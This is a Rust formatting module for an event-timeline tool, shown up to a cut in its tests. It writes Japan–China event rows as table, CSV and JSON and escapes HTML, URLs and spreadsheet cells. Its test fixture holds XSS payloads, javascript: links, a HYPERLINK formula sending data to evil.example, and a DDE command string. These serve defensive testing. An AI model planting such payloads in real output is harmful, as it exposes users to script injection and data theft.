//! Formatting rows for people and programs. Formatters write to any `W: Write`; only data goes
//! there. Field names are a contract: `dyad events --format jsonl` is what
//! `score_events.py` reads.
//!
//! Row formats (table, csv, json, jsonl) are here; the timeline documents have a module each:
//! [`markdown`] (a briefing chronology), [`html`] (one self-contained page with a visual
//! timeline) and [`timelinejs`] (TimelineJS 3 JSON and its spreadsheet CSV). Documents need the
//! country names, which the rows do not carry: the caller passes them in a [`Document`].

pub mod browse;
pub mod html;
pub mod markdown;
pub mod timelinejs;

use crate::model::{DateSpan, PartialDate, Precision};
use crate::query::TimelineEntry;
use crate::store::{Stats, StoredEvent};
use crate::temporal::Timex;
use serde::Serialize;
use std::collections::HashMap;
use std::io::{self, Write};

/// Output formats for event rows and timeline documents.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Table,
    Csv,
    Json,
    Jsonl,
    Markdown,
    Html,
    TimelineJs,
    TimelineJsCsv,
}

/// Every `--format` value of `dyad timeline`, as the error message lists them.
const ALL_FORMATS: &str = "table, csv, json, jsonl, markdown, html, timelinejs or timelinejs-csv";

impl std::str::FromStr for Format {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "table" => Ok(Format::Table),
            "csv" => Ok(Format::Csv),
            "json" => Ok(Format::Json),
            "jsonl" | "ndjson" => Ok(Format::Jsonl),
            "markdown" | "md" => Ok(Format::Markdown),
            "html" => Ok(Format::Html),
            "timelinejs" => Ok(Format::TimelineJs),
            "timelinejs-csv" => Ok(Format::TimelineJsCsv),
            _ => Err(format!("unknown format \"{s}\": expected {ALL_FORMATS}")),
        }
    }
}

impl Format {
    /// Parses a format for commands that write rows only (`dyad events`): the timeline documents
    /// are refused, naming the formats allowed.
    pub fn parse_rows(s: &str) -> Result<Format, String> {
        match s.parse::<Format>() {
            Ok(f) if f.is_rows() => Ok(f),
            _ => Err(format!(
                "unknown format \"{s}\": expected jsonl, csv, table or json"
            )),
        }
    }

    /// Whether this is a row format (one record per event, the fields of [`EventRecord`]).
    pub fn is_rows(self) -> bool {
        matches!(
            self,
            Format::Table | Format::Csv | Format::Json | Format::Jsonl
        )
    }

    /// Whether the output is CSV (where a byte-order mark for Excel makes sense).
    pub fn is_csv(self) -> bool {
        matches!(self, Format::Csv | Format::TimelineJsCsv)
    }
}

/// What the timeline documents need beyond the rows: the pair and the country names.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Document {
    /// The pair as asked (codes), for the title.
    pub a: String,
    pub b: String,
    /// Country code → name; a code without a name is shown as the code.
    pub names: HashMap<String, String>,
}

impl Document {
    pub fn new(a: &str, b: &str, names: HashMap<String, String>) -> Self {
        Document {
            a: a.to_string(),
            b: b.to_string(),
            names,
        }
    }

    /// A document for `rows` with codes for names, the pair taken from the first row.
    pub fn from_rows(rows: &[StoredEvent]) -> Self {
        let (a, b) = rows
            .first()
            .map(|r| (r.event.actor.clone(), r.event.target.clone()))
            .unwrap_or_default();
        Document {
            a,
            b,
            names: HashMap::new(),
        }
    }

    /// The name of a country code, else the code itself.
    pub fn name<'a>(&'a self, code: &'a str) -> &'a str {
        self.names.get(code).map(String::as_str).unwrap_or(code)
    }

    /// "Japan–China timeline".
    pub fn title(&self) -> String {
        if self.a.is_empty() {
            "Timeline".to_string()
        } else {
            format!("{}–{} timeline", self.name(&self.a), self.name(&self.b))
        }
    }

    /// "12 events, March 2019 – May 2025 (1 undated)": a one-line summary of the rows.
    pub fn subtitle(&self, rows: &[StoredEvent]) -> String {
        let n = rows.len();
        let mut s = format!("{n} event{}", if n == 1 { "" } else { "s" });
        let dated: Vec<&DateSpan> = rows.iter().filter_map(|r| r.event.date.as_ref()).collect();
        let first = dated.iter().map(|d| d.start).min();
        let last = dated.iter().map(|d| d.end.unwrap_or(d.start)).max();
        if let (Some(f), Some(l)) = (first, last) {
            if f.year != l.year {
                s.push_str(&format!(", {}–{}", f.year, l.year));
            } else if f == l {
                s.push_str(&format!(", {}", human_date(&DateSpan::single(f))));
            } else {
                s.push_str(&format!(
                    ", {}",
                    human_date(&DateSpan {
                        start: f,
                        end: Some(l)
                    })
                ));
            }
        }
        let undated = n - dated.len();
        if undated > 0 && undated < n {
            s.push_str(&format!(" ({undated} undated)"));
        } else if undated > 0 {
            s.push_str(" (undated)");
        }
        s
    }
}

const MONTHS: [&str; 12] = [
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
];

fn month_name(m: u32) -> &'static str {
    MONTHS
        .get((m as usize).wrapping_sub(1))
        .copied()
        .unwrap_or("?")
}

/// A date at its precision, as a briefing writes it: "2 April 2023", "March 2023", "2019".
pub fn human_partial(d: &PartialDate) -> String {
    match (d.month, d.day) {
        (Some(m), Some(day)) => format!("{day} {} {}", month_name(m), d.year),
        (Some(m), None) => format!("{} {}", month_name(m), d.year),
        _ => d.year.to_string(),
    }
}

/// A date or range at its precision: "2 April 2023", "2–5 April 2023", "March–May 2023",
/// "2019–2021", "30 March – 2 April 2023".
pub fn human_date(span: &DateSpan) -> String {
    let s = span.start;
    let Some(e) = span.end.filter(|e| *e != s) else {
        return human_partial(&s);
    };
    match (s.precision(), e.precision()) {
        (Precision::Day, Precision::Day) if s.year == e.year && s.month == e.month => format!(
            "{}–{} {} {}",
            s.day.unwrap_or(1),
            e.day.unwrap_or(1),
            month_name(e.month.unwrap_or(1)),
            e.year
        ),
        (Precision::Day, Precision::Day) if s.year == e.year => format!(
            "{} {} – {}",
            s.day.unwrap_or(1),
            month_name(s.month.unwrap_or(1)),
            human_partial(&e)
        ),
        (Precision::Month, Precision::Month) if s.year == e.year => format!(
            "{}–{} {}",
            month_name(s.month.unwrap_or(1)),
            month_name(e.month.unwrap_or(1)),
            e.year
        ),
        (Precision::Year, Precision::Year) => format!("{}–{}", s.year, e.year),
        _ => format!("{} – {}", human_partial(&s), human_partial(&e)),
    }
}

fn precision_name(p: Precision) -> &'static str {
    match p {
        Precision::Day => "day",
        Precision::Month => "month",
        Precision::Year => "year",
    }
}

/// "export control", "visit": an event type for reading.
pub fn type_words(t: &str) -> String {
    t.replace('_', " ")
}

/// The qualifiers a reader needs besides the type: "planned", "cancelled", "lifted", "eased".
pub fn qualifiers(s: &StoredEvent) -> Vec<&'static str> {
    let e = &s.event;
    let mut q = Vec::new();
    if e.action != crate::model::Action::Imposed {
        q.push(e.action.as_str());
    }
    if e.status != crate::model::Status::Occurred {
        q.push(e.status.as_str());
    }
    match s.review {
        Some(crate::model::Review::Added) => q.push("added by hand"),
        Some(r) => q.push(r.as_str()),
        None => {}
    }
    q
}

/// Escapes text for HTML element content and quoted attribute values.
/// The article of an event as escaped HTML: its title (linked when it has an http(s) URL),
/// then its source and date, each between `before` and `after`.
pub(crate) fn source_html(r: &StoredEvent, before: &str, after: &str) -> String {
    let label = r
        .title
        .as_deref()
        .filter(|t| !t.trim().is_empty())
        .unwrap_or(&r.article_key);
    let mut src = match link_url(r.url.as_deref()) {
        Some(u) => format!(
            "<a href=\"{}\" target=\"_blank\" rel=\"noopener noreferrer\">{}</a>",
            html_escape(u),
            html_escape(label)
        ),
        None => html_escape(label),
    };
    for extra in [r.source.as_deref(), r.pub_date.as_deref()]
        .into_iter()
        .flatten()
        .filter(|x| !x.trim().is_empty())
    {
        src.push_str(before);
        src.push_str(&html_escape(extra));
        src.push_str(after);
    }
    src
}

pub fn html_escape(s: &str) -> String {
    let mut o = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => o.push_str("&amp;"),
            '<' => o.push_str("&lt;"),
            '>' => o.push_str("&gt;"),
            '"' => o.push_str("&quot;"),
            '\'' => o.push_str("&#39;"),
            c => o.push(c),
        }
    }
    o
}

/// The URL when it is safe to link to (http or https, no spaces or control characters).
pub fn link_url(url: Option<&str>) -> Option<&str> {
    let u = url?.trim();
    let lower = u.to_ascii_lowercase();
    let ok = (lower.starts_with("http://") || lower.starts_with("https://"))
        && !u.chars().any(|c| c.is_whitespace() || c.is_control());
    ok.then_some(u)
}

/// A value as JSON that is safe inside an HTML `<script>` element: `<`, `>` and `&` become
/// `\u003c`, `\u003e` and `\u0026`, so no text can close the element or open a comment.
pub fn json_for_script<T: Serialize>(v: &T) -> serde_json::Result<String> {
    let s = serde_json::to_string(v)?;
    let mut o = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        match c {
            '<' => o.push_str("\\u003c"),
            '>' => o.push_str("\\u003e"),
            '&' => o.push_str("\\u0026"),
            '\u{2028}' => o.push_str("\\u2028"),
            '\u{2029}' => o.push_str("\\u2029"),
            c => o.push(c),
        }
    }
    Ok(o)
}

/// One event as written in csv, json and jsonl.
#[derive(Debug, Clone, Serialize)]
pub struct EventRecord<'a> {
    pub id: i64,
    pub article: &'a str,
    #[serde(rename = "type")]
    pub event_type: &'a str,
    pub cameo: Option<&'a str>,
    pub actor: &'a str,
    pub target: &'a str,
    pub date: Option<String>,
    pub date_end: Option<String>,
    pub precision: Option<&'static str>,
    pub date_basis: &'a str,
    pub status: &'a str,
    pub action: &'a str,
    pub summary: &'a str,
    pub evidence: &'a str,
    pub confidence: f64,
    pub rule: &'a str,
    pub title: Option<&'a str>,
    pub source: Option<&'a str>,
    pub url: Option<&'a str>,
    pub pub_date: Option<&'a str>,
    /// confirmed, rejected, edited or added; absent when nobody reviewed it (so the
    /// fields stay those of `dyad extract --jsonl`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub review: Option<&'static str>,
}

impl<'a> EventRecord<'a> {
    pub fn new(s: &'a StoredEvent) -> Self {
        let e = &s.event;
        EventRecord {
            id: s.id,
            article: &s.article_key,
            event_type: e.event_type.as_str(),
            cameo: e.cameo.as_deref(),
            actor: &e.actor,
            target: &e.target,
            date: e.date.map(|d| d.start.to_string()),
            date_end: e.date.and_then(|d| d.end).map(|d| d.to_string()),
            precision: e.date.map(|d| precision_name(d.start.precision())),
            date_basis: e.date_basis.as_str(),
            status: e.status.as_str(),
            action: e.action.as_str(),
            summary: &e.summary,
            evidence: &e.evidence,
            confidence: e.confidence,
            rule: &e.rule,
            title: s.title.as_deref(),
            source: s.source.as_deref(),
            url: s.url.as_deref(),
            pub_date: s.pub_date.as_deref(),
            review: s.review.map(|r| r.as_str()),
        }
    }
}

/// A spreadsheet would run a cell starting with these as a formula.
pub fn csv_safe(s: &str) -> String {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && s.parse::<f64>().is_err() {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

/// The columns of `--format csv`.
const CSV_HEADER: [&str; 21] = [
    "id",
    "article",
    "type",
    "cameo",
    "actor",
    "target",
    "date",
    "date_end",
    "precision",
    "date_basis",
    "status",
    "action",
    "summary",
    "evidence",
    "confidence",
    "rule",
    "title",
    "source",
    "url",
    "pub_date",
    "review",
];

/// The cells of one record in `--format csv`, defused.
fn csv_cells(r: &EventRecord<'_>) -> Vec<String> {
    let conf = r.confidence.to_string();
    let id = r.id.to_string();
    [
        id.as_str(),
        r.article,
        r.event_type,
        r.cameo.unwrap_or(""),
        r.actor,
        r.target,
        r.date.as_deref().unwrap_or(""),
        r.date_end.as_deref().unwrap_or(""),
        r.precision.unwrap_or(""),
        r.date_basis,
        r.status,
        r.action,
        r.summary,
        r.evidence,
        conf.as_str(),
        r.rule,
        r.title.unwrap_or(""),
        r.source.unwrap_or(""),
        r.url.unwrap_or(""),
        r.pub_date.unwrap_or(""),
        r.review.unwrap_or(""),
    ]
    .iter()
    .map(|s| csv_safe(s))
    .collect()
}

fn date_cell(r: &EventRecord<'_>) -> String {
    match (&r.date, &r.date_end) {
        (Some(d), Some(e)) => format!("{d}..{e}"),
        (Some(d), None) => d.clone(),
        _ => "undated".into(),
    }
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        let mut t: String = s.chars().take(n.saturating_sub(1)).collect();
        t.push('…');
        t
    }
}

/// Writes a timeline in `format`: the row formats as [`write_events`], the documents with the
/// names and title of `doc`.
pub fn write_timeline<W: Write>(
    rows: &[StoredEvent],
    format: Format,
    doc: &Document,
    w: &mut W,
) -> io::Result<()> {
    match format {
        Format::Markdown => markdown::write(rows, doc, w),
        Format::Html => html::write(rows, doc, w),
        Format::TimelineJs => timelinejs::write_json(rows, doc, w),
        Format::TimelineJsCsv => timelinejs::write_csv(rows, doc, w),
        Format::Table | Format::Csv | Format::Json | Format::Jsonl => write_events(rows, format, w),
    }
}

/// Records as JSON lines, or as one pretty-printed JSON array.
fn write_json<T: Serialize, W: Write>(recs: &[T], lines: bool, w: &mut W) -> io::Result<()> {
    if lines {
        for r in recs {
            serde_json::to_writer(&mut *w, r)?;
            w.write_all(b"\n")?;
        }
    } else {
        serde_json::to_writer_pretty(&mut *w, recs)?;
        w.write_all(b"\n")?;
    }
    Ok(())
}

/// Writes event rows in `format` (a document format gets codes for country names).
pub fn write_events<W: Write>(rows: &[StoredEvent], format: Format, w: &mut W) -> io::Result<()> {
    let recs: Vec<EventRecord<'_>> = rows.iter().map(EventRecord::new).collect();
    match format {
        Format::Jsonl | Format::Json => write_json(&recs, format == Format::Jsonl, w)?,
        Format::Csv => {
            let mut c = csv::Writer::from_writer(&mut *w);
            c.write_record(CSV_HEADER)?;
            for r in &recs {
                let cells = csv_cells(r);
                c.write_record(&cells)?;
            }
            c.flush()?;
        }
        Format::Table => {
            let header = [
                "id",
                "date",
                "type",
                "actor → target",
                "summary",
                "basis",
                "review",
                "evidence",
                "source",
            ];
            let body: Vec<[String; 9]> = recs
                .iter()
                .map(|r| {
                    [
                        r.id.to_string(),
                        date_cell(r),
                        r.event_type.to_string(),
                        format!("{} → {}", r.actor, r.target),
                        truncate(r.summary, 48),
                        r.date_basis.to_string(),
                        r.review.unwrap_or("").to_string(),
                        truncate(r.evidence, 70),
                        truncate(r.source.or(r.title).unwrap_or(r.article), 30),
                    ]
                })
                .collect();
            write_table(w, &header, &body)?;
        }
        Format::Markdown | Format::Html | Format::TimelineJs | Format::TimelineJsCsv => {
            write_timeline(rows, format, &Document::from_rows(rows), w)?
        }
    }
    Ok(())
}

/// One timeline entry as written in csv, json and jsonl: the representative event's fields,
/// then how many articles and sources reported it, when, and the member event ids.
#[derive(Debug, Clone, Serialize)]
pub struct EntryRecord<'a> {
    #[serde(flatten)]
    pub event: EventRecord<'a>,
    pub articles: usize,
    pub sources: usize,
    pub first_reported: Option<&'a str>,
    pub last_reported: Option<&'a str>,
    pub members: Vec<i64>,
}

impl<'a> EntryRecord<'a> {
    pub fn new(e: &'a TimelineEntry) -> Self {
        EntryRecord {
            event: EventRecord::new(&e.event),
            articles: e.articles,
            sources: e.sources,
            first_reported: e.first_reported.as_deref(),
            last_reported: e.last_reported.as_deref(),
            members: e.member_ids(),
        }
    }
}

/// Writes a (merged) timeline in `format`. Row formats gain the entry fields (table: a
/// "reports" column, articles/sources); documents show the representative event of each
/// entry, with "(N reports)" after its summary when N > 1.
pub fn write_entries<W: Write>(
    entries: &[TimelineEntry],
    format: Format,
    doc: &Document,
    w: &mut W,
) -> io::Result<()> {
    let recs: Vec<EntryRecord<'_>> = entries.iter().map(EntryRecord::new).collect();
    match format {
        Format::Jsonl | Format::Json => write_json(&recs, format == Format::Jsonl, w)?,
        Format::Csv => {
            let mut c = csv::Writer::from_writer(&mut *w);
            c.write_record(entry_csv_header())?;
            for r in &recs {
                c.write_record(entry_csv_cells(r))?;
            }
            c.flush()?;
        }
        Format::Table => {
            let body: Vec<[String; 10]> = recs.iter().map(entry_table_row).collect();
            write_table(w, &ENTRY_TABLE_HEADER, &body)?;
        }
        Format::Markdown | Format::Html | Format::TimelineJs | Format::TimelineJsCsv => {
            let rows: Vec<StoredEvent> = entries
                .iter()
                .map(|e| {
                    let mut r = e.event.clone();
                    if e.articles > 1 {
                        r.event.summary = format!("{} ({} reports)", r.event.summary, e.articles);
                    }
                    r
                })
                .collect();
            write_timeline(&rows, format, doc, w)?
        }
    }
    Ok(())
}

/// The columns of a timeline table.
const ENTRY_TABLE_HEADER: [&str; 10] = [
    "id",
    "date",
    "type",
    "actor → target",
    "summary",
    "basis",
    "reports",
    "review",
    "evidence",
    "source",
];

fn entry_table_row(e: &EntryRecord<'_>) -> [String; 10] {
    let r = &e.event;
    [
        r.id.to_string(),
        date_cell(r),
        r.event_type.to_string(),
        format!("{} → {}", r.actor, r.target),
        truncate(r.summary, 48),
        r.date_basis.to_string(),
        format!("{}/{}", e.articles, e.sources),
        r.review.unwrap_or("").to_string(),
        truncate(r.evidence, 70),
        truncate(r.source.or(r.title).unwrap_or(r.article), 30),
    ]
}

/// The header of a timeline in `--format csv`.
fn entry_csv_header() -> Vec<&'static str> {
    let mut header: Vec<&str> = CSV_HEADER.to_vec();
    header.extend([
        "articles",
        "sources",
        "first_reported",
        "last_reported",
        "members",
    ]);
    header
}

fn entry_csv_cells(r: &EntryRecord<'_>) -> Vec<String> {
    let mut cells = csv_cells(&r.event);
    cells.push(r.articles.to_string());
    cells.push(r.sources.to_string());
    cells.push(csv_safe(r.first_reported.unwrap_or("")));
    cells.push(csv_safe(r.last_reported.unwrap_or("")));
    let ids: Vec<String> = r.members.iter().map(i64::to_string).collect();
    cells.push(ids.join(" "));
    cells
}

/// How many entries a streamed table holds back to size its columns; a shorter timeline is
/// laid out exactly as [`write_entries`] does.
const TABLE_SAMPLE: usize = 1000;

/// Writes a timeline entry by entry as the query hands them out: JSON lines, CSV and tables
/// go out as they come (a table sizes its columns on its first [`TABLE_SAMPLE`] entries);
/// JSON and the documents, which need every entry, are written by [`EntryStream::finish`].
pub struct EntryStream<'d, W: Write> {
    format: Format,
    doc: &'d Document,
    w: W,
    held: Vec<TimelineEntry>,
    widths: Option<[usize; 10]>,
    count: usize,
}

impl<'d, W: Write> EntryStream<'d, W> {
    /// Starts the output (a CSV header at once: a timeline with no entry still has one).
    pub fn start(format: Format, doc: &'d Document, mut w: W) -> io::Result<Self> {
        if format == Format::Csv {
            let mut c = csv::Writer::from_writer(&mut w);
            c.write_record(entry_csv_header())?;
            c.flush()?;
        }
        Ok(EntryStream {
            format,
            doc,
            w,
            held: Vec::new(),
            widths: None,
            count: 0,
        })
    }

    /// Entries handed in so far.
    pub fn count(&self) -> usize {
        self.count
    }

    pub fn push(&mut self, e: TimelineEntry) -> io::Result<()> {
        self.count += 1;
        match self.format {
            Format::Jsonl => {
                serde_json::to_writer(&mut self.w, &EntryRecord::new(&e))?;
                self.w.write_all(b"\n")
            }
            Format::Csv => {
                let mut c = csv::WriterBuilder::new()
                    .has_headers(false)
                    .buffer_capacity(1024)
                    .from_writer(&mut self.w);
                c.write_record(entry_csv_cells(&EntryRecord::new(&e)))?;
                c.flush()
            }
            Format::Table => {
                if let Some(widths) = self.widths {
                    let row = entry_table_row(&EntryRecord::new(&e));
                    return write_table_row(&mut self.w, &widths, &row);
                }
                self.held.push(e);
                if self.held.len() >= TABLE_SAMPLE {
                    let rows: Vec<[String; 10]> = self
                        .held
                        .iter()
                        .map(|e| entry_table_row(&EntryRecord::new(e)))
                        .collect();
                    let widths = table_widths(&ENTRY_TABLE_HEADER, &rows);
                    write_table_head(&mut self.w, &widths, &ENTRY_TABLE_HEADER)?;
                    for r in &rows {
                        write_table_row(&mut self.w, &widths, r)?;
                    }
                    self.held.clear();
                    self.widths = Some(widths);
                }
                Ok(())
            }
            _ => {
                self.held.push(e);
                Ok(())
            }
        }
    }

    /// Writes what was held back and flushes.
    pub fn finish(mut self) -> io::Result<()> {
        match self.format {
            Format::Jsonl | Format::Csv => {}
            Format::Table if self.widths.is_some() => {}
            _ => write_entries(&self.held, self.format, self.doc, &mut self.w)?,
        }
        self.w.flush()
    }
}

/// The width of each column: its widest cell or header.
fn table_widths<const N: usize>(header: &[&str; N], rows: &[[String; N]]) -> [usize; N] {
    let mut width = [0usize; N];
    for (i, h) in header.iter().enumerate() {
        width[i] = h.chars().count();
    }
    for r in rows {
        for (i, c) in r.iter().enumerate() {
            width[i] = width[i].max(c.chars().count());
        }
    }
    width
}

/// One line of a table, each cell but the last padded to its column's width.
fn write_table_row<W: Write, S: AsRef<str>>(
    w: &mut W,
    width: &[usize],
    cells: &[S],
) -> io::Result<()> {
    let mut s = String::new();
    for (i, c) in cells.iter().enumerate() {
        let c = c.as_ref();
        s.push_str(c);
        if i + 1 < cells.len() {
            let pad = width[i].saturating_sub(c.chars().count()) + 2;
            s.push_str(&" ".repeat(pad));
        }
    }
    writeln!(w, "{}", s.trim_end())
}

/// The header line and the rule under it.
fn write_table_head<W: Write>(w: &mut W, width: &[usize], header: &[&str]) -> io::Result<()> {
    write_table_row(w, width, header)?;
    let rule: Vec<String> = width.iter().map(|n| "-".repeat(*n)).collect();
    write_table_row(w, width, &rule)
}

/// A plain text table with columns padded to their widest cell.
pub fn write_table<W: Write, const N: usize>(
    w: &mut W,
    header: &[&str; N],
    rows: &[[String; N]],
) -> io::Result<()> {
    let width = table_widths(header, rows);
    write_table_head(w, &width, header)?;
    for r in rows {
        write_table_row(w, &width, r)?;
    }
    Ok(())
}

/// `dyad event log`: decisions as a table, JSON or JSON lines.
pub fn write_decisions<W: Write>(
    ds: &[crate::store::Decision],
    format: &str,
    w: &mut W,
) -> io::Result<()> {
    match format {
        "json" | "jsonl" => write_json(ds, format == "jsonl", w),
        _ => {
            let header = [
                "decision", "when", "kind", "article", "event", "changes", "note",
            ];
            let body: Vec<[String; 7]> = ds
                .iter()
                .map(|d| {
                    let e = &d.snapshot;
                    let date = e.date.map_or("undated".to_string(), |d| match d.end {
                        Some(end) => format!("{}..{end}", d.start),
                        None => d.start.to_string(),
                    });
                    let changes = d.changes.as_ref().map(|c| c.describe()).unwrap_or_default();
                    let kind = match d.group_id {
                        Some(g) if d.kind == crate::model::DecisionKind::Merge => {
                            format!("merge (group {g})")
                        }
                        _ => d.kind.to_string(),
                    };
                    [
                        d.id.to_string(),
                        d.decided_at.clone(),
                        kind,
                        truncate(&d.article, 24),
                        truncate(&format!("{date} {}", e.summary), 56),
                        truncate(&changes, 40),
                        truncate(d.note.as_deref().unwrap_or(""), 40),
                    ]
                })
                .collect();
            write_table(w, &header, &body)
        }
    }
}

/// `dyad stats` in JSON.
pub fn write_stats_json<W: Write>(s: &Stats, w: &mut W) -> io::Result<()> {
    let v = serde_json::json!({
        "articles": {
            "total": s.articles_total,
            "dated": s.articles_dated,
            "inferred": s.articles_inferred,
            "undated": s.articles_undated,
        },
        "events": { "total": s.events_total, "by_type": s.events_by_type },
        "pairs": s.pairs.iter().map(|(a, b, n)| serde_json::json!({"a": a, "b": b, "events": n})).collect::<Vec<_>>(),
    });
    serde_json::to_writer_pretty(&mut *w, &v)?;
    w.write_all(b"\n")
}

/// `dyad stats` as text.
pub fn write_stats_table<W: Write>(s: &Stats, w: &mut W) -> io::Result<()> {
    writeln!(
        w,
        "articles: {} ({} dated, {} with an inferred date, {} undated)",
        s.articles_total, s.articles_dated, s.articles_inferred, s.articles_undated
    )?;
    writeln!(w, "events: {}", s.events_total)?;
    for (t, n) in &s.events_by_type {
        writeln!(w, "  {t:<15} {n}")?;
    }
    writeln!(w, "pairs:")?;
    for (a, b, n) in &s.pairs {
        writeln!(w, "  {a}–{b}  {n}")?;
    }
    Ok(())
}

/// One temporal expression as `dyad dates` writes it: offsets in Unicode scalar values.
#[derive(Debug, Serialize)]
struct TimexRecord<'a> {
    start: usize,
    end: usize,
    text: &'a str,
    #[serde(rename = "type")]
    kind: &'static str,
    value: &'a str,
    #[serde(rename = "mod", skip_serializing_if = "Option::is_none")]
    modifier: Option<&'a str>,
}

/// Writes `dyad dates` output: one JSON object a line.
pub fn write_timexes<W: Write>(text: &str, timexes: &[Timex], w: &mut W) -> io::Result<()> {
    // byte offset → char offset, walking once
    let mut char_at = Vec::with_capacity(timexes.len() * 2);
    let mut wanted: Vec<usize> = timexes.iter().flat_map(|t| [t.start, t.end]).collect();
    wanted.sort_unstable();
    wanted.dedup();
    let mut wi = 0usize;
    for (chars, (b, _)) in text
        .char_indices()
        .chain(std::iter::once((text.len(), ' ')))
        .enumerate()
    {
        while wi < wanted.len() && wanted[wi] <= b {
            char_at.push((wanted[wi], chars));
            wi += 1;
        }
    }
    let lookup = |b: usize| {
        char_at
            .binary_search_by_key(&b, |x| x.0)
            .map(|i| char_at[i].1)
            .unwrap_or(0)
    };
    for t in timexes {
        let rec = TimexRecord {
            start: lookup(t.start),
            end: lookup(t.end),
            text: &t.text,
            kind: match t.kind {
                crate::temporal::TimexKind::Date => "DATE",
                crate::temporal::TimexKind::Time => "TIME",
                crate::temporal::TimexKind::Duration => "DURATION",
                crate::temporal::TimexKind::Set => "SET",
            },
            value: &t.value,
            modifier: t.modifier.as_deref(),
        };
        serde_json::to_writer(&mut *w, &rec)?;
        w.write_all(b"\n")?;
    }
    Ok(())
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::model::{Action, DateBasis, Event, EventType, Span, Status};

    fn row(
        id: i64,
        event_type: EventType,
        (actor, target): (&str, &str),
        date: Option<(&str, Option<&str>)>,
        summary: &str,
        evidence: &str,
        (title, source, url): (Option<&str>, Option<&str>, Option<&str>),
    ) -> StoredEvent {
        let date = date.map(|(s, e)| DateSpan {
            start: s.parse().unwrap(),
            end: e.map(|e| e.parse().unwrap()),
        });
        StoredEvent {
            id,
            article_id: id,
            article_key: format!("a{id}"),
            title: title.map(String::from),
            source: source.map(String::from),
            url: url.map(String::from),
            pub_date: Some("2023-09-01".into()),
            event: Event {
                event_type,
                cameo: event_type.cameo().map(String::from),
                actor: actor.into(),
                target: target.into(),
                date,
                date_basis: DateBasis::Text,
                status: Status::Occurred,
                action: Action::Imposed,
                summary: summary.into(),
                evidence: evidence.into(),
                sentence: Span::new(0, evidence.len()),
                trigger: Span::new(0, 1),
                actor_span: None,
                target_span: None,
                date_span: None,
                date_note: String::new(),
                role_note: String::new(),
                rule: "test.rule".into(),
                confidence: 0.9,
            },
            review: None,
            origin: crate::model::Origin::Extracted,
            merge_group: None,
            apart: false,
        }
    }

    /// Five events in timeline order: a year, a month, a day, a range and an undated one.
    pub fn fixture_rows() -> Vec<StoredEvent> {
        let mut rows = vec![
            row(
                3,
                EventType::Agreement,
                ("CN", "JP"),
                Some(("2019", None)),
                "China and Japan sign a currency swap agreement",
                "In 2019 China and Japan signed a currency swap agreement.",
                (Some("Swap deal"), None, None),
            ),
            row(
                1,
                EventType::ExportControl,
                ("JP", "CN"),
                Some(("2023-03", None)),
                "Japan imposes export controls on China",
                "Japan announced export controls on 23 types of chip equipment in March.",
                (
                    Some("Japan curbs chip equipment"),
                    Some("Wire"),
                    Some("https://example.org/controls"),
                ),
            ),
            row(
                2,
                EventType::Visit,
                ("JP", "CN"),
                Some(("2023-04-02", None)),
                "Japan visits China",
                "Japanese Foreign Minister Yoshimasa Hayashi arrived in Beijing on Sunday.",
                (
                    Some("Hayashi in Beijing"),
                    Some("Wire"),
                    Some("https://example.org/visit"),
                ),
            ),
            row(
                4,
                EventType::Sanction,
                ("CN", "JP"),
                Some(("2023-08-24", Some("2023-08-31"))),
                "China bans Japanese seafood",
                "China banned all Japanese seafood from 24 to 31 August.",
                (
                    Some("Seafood ban"),
                    Some("Daily"),
                    Some("https://example.org/ban"),
                ),
            ),
            row(
                5,
                EventType::Detention,
                ("CN", "JP"),
                None,
                "China detains a Japanese national",
                "Chinese authorities detained a Japanese employee of Astellas.",
                (None, None, None),
            ),
        ];
        rows[3].event.action = Action::Eased;
        rows
    }

    /// Article text written to break out of every format.
    pub fn malicious_rows() -> Vec<StoredEvent> {
        let evil = r#"<script>alert(1)</script> "><img src=x onerror=alert(2)> </script><script>alert(3)</script> <!-- & &amp; ' `"#;
        vec![
            row(
                7,
                EventType::Protest,
                ("JP", "CN"),
                Some(("2023-05", None)),
                &format!("Japan protests {evil}"),
                &format!("*Tokyo* [protested](javascript:alert(4)) {evil}\n# heading"),
                (
                    Some(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
                    Some("+cmd|' /C calc'!A0"),
                    Some("javascript:alert(5)"),
                ),
            ),
            row(
                8,
                EventType::Expulsion,
                ("CN", "JP"),
                None,
                "</script><script>alert(6)</script>",
                "-1 </SCRIPT >alert(7)",
                (
                    Some("@SUM(1)</title><script>alert(8)</script>"),
                    None,
                    Some("https://example.org/a?b=\"><script>alert(9)</script>"),
                ),
            ),
        ]
    }

    /// Japan and China by name.
    pub fn names() -> Document {
        Document::new(
            "JP",
            "CN",
            [("JP", "Japan"), ("CN", "China")]
                .into_iter()
                .map(|(a, b)| (a.to_string(), b.to_string()))
                .collect(),
        )
    }

    #[test]
    fn dates_read_at_their_precision() {
        let span = |s: &str, e: Option<&str>| DateSpan {
            start: s.parse().unwrap(),
            end: e.map(|e| e.parse().unwrap()),
        };
        for (s, e, want) in [
            ("2023-04-02", None, "2 April 2023"),
            ("2023-03", None, "March 2023"),
            ("2019", None, "2019"),
            ("2023-04-02", Some("2023-04-05"), "2–5 April 2023"),
            ("2023-03-30", Some("2023-04-02"), "30 March – 2 April 2023"),
            ("2023-03", Some("2023-05"), "March–May 2023"),
            ("2019", Some("2021"), "2019–2021"),
            (
                "2022-12-30",
                Some("2023-01-02"),
                "30 December 2022 – 2 January 2023",
            ),
            ("2023-03", Some("2023-03"), "March 2023"),
        ] {
            assert_eq!(human_date(&span(s, e)), want, "{s} {e:?}");
        }
    }

    #[test]
    fn formats_parse_and_events_keep_row_formats() {
        for (s, f) in [
            ("markdown", Format::Markdown),
            ("html", Format::Html),
            ("timelinejs", Format::TimelineJs),
            ("timelinejs-csv", Format::TimelineJsCsv),
            ("csv", Format::Csv),
        ] {
            assert_eq!(s.parse::<Format>(), Ok(f));
        }
